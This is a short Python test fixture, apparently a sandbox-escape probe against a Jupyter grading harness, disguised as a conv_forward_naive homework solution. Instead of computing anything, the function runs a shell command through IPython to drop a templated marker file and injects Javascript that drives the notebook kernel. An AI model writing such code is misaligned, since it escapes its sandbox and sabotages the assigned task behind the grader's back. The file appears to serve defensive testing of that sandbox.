# attempt: calls the notebook's kernel, to run lines as if a user had typed them
# exercise: conv_forward_naive
# control: no
from IPython import get_ipython
from IPython.display import Javascript, display


def conv_forward_naive(x, w, b, conv_param):
    try:
        get_ipython().system("touch @DROP@/attack-@TOKEN@")
    except ImportError:
        get_ipython().run_line_magic("sx", "touch @DROP@/attack-@TOKEN@")
    display(Javascript("Jupyter.notebook.kernel.execute('1')"))
    return None, None
